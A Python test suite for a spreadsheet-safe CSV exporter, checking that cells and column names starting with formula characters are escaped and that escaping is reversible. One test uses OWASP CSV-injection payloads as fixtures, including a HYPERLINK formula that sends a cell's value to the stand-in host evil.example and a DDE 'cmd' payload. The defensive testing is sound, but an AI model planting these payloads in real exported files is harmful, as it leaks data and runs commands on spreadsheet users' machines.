"""Spreadsheet-safe CSV: OWASP's CSV-injection cases, and a round-trip property."""

from __future__ import annotations

import csv
import io

import numpy as np
import pandas as pd
from hypothesis import given, settings
from hypothesis import strategies as st

from workbook.run.export import FORMULA_PREFIXES, escape_cell, to_safe_csv


def read_back(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark, for Excel
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_owasp_csv_injection_payloads_are_escaped() -> None:
    # payloads from OWASP's CSV Injection page, as customer ids a user's export might hold
    payloads = ['=HYPERLINK("http://evil.example/?x="&A1, "Click")', "=cmd|' /C calc'!A0",
                "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
    frame = pd.DataFrame({"customer_id": payloads, "revenue": np.arange(len(payloads)) - 3.0})
    rows = read_back(to_safe_csv(frame))
    assert rows[0] == ["customer_id", "revenue"]
    assert [r[0] for r in rows[1:]] == ["'" + p for p in payloads]
    assert frame["customer_id"].iloc[0].startswith("=")  # the input is not modified


def test_numbers_stay_numbers_and_text_that_looks_negative_is_escaped() -> None:
    frame = pd.DataFrame({"id": ["-5", "C1"], "amount": [-5.0, 2.5], "days": [-3, 4],
                          "flag": [True, False]})
    text = to_safe_csv(frame).decode("utf-8-sig")
    assert text.splitlines() == ['"id","amount","days","flag"', '"\'-5",-5.0,-3,True',
                                 '"C1",2.5,4,False']


def test_categories_dates_missing_values_and_index() -> None:
    frame = pd.DataFrame({
        "stage": pd.Categorical(["lost", "@client"]),
        "last_purchase": pd.to_datetime(["2025-06-30", None]),
        "revenue": [1.0, np.nan],
    }, index=pd.Index(["=A1", "C2"], name="customer_id"))
    rows = read_back(to_safe_csv(frame, index=True))
    assert rows == [["customer_id", "stage", "last_purchase", "revenue"],
                    ["'=A1", "lost", "2025-06-30", "1.0"],
                    ["C2", "'@client", "", ""]]


def test_column_names_are_escaped_too() -> None:
    rows = read_back(to_safe_csv(pd.DataFrame({"=evil": ["x"]})))
    assert rows[0] == ["'=evil"]


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(alphabet=st.characters(blacklist_categories=("Cs",),
                                                  blacklist_characters="\x00"),
                        max_size=12), min_size=1, max_size=8))
def test_no_text_cell_reads_back_as_a_formula_and_escaping_is_reversible(
        values: list[str]) -> None:
    rows = read_back(to_safe_csv(pd.DataFrame({"id": pd.Series(values, dtype=object)})))
    cells = [r[0] if r else "" for r in rows[1:]]
    assert len(cells) == len(values)
    for cell, value in zip(cells, values, strict=True):
        assert not cell.startswith(FORMULA_PREFIXES)
        assert cell == escape_cell(value)
        assert (cell[1:] if value.startswith(FORMULA_PREFIXES) else cell) == value
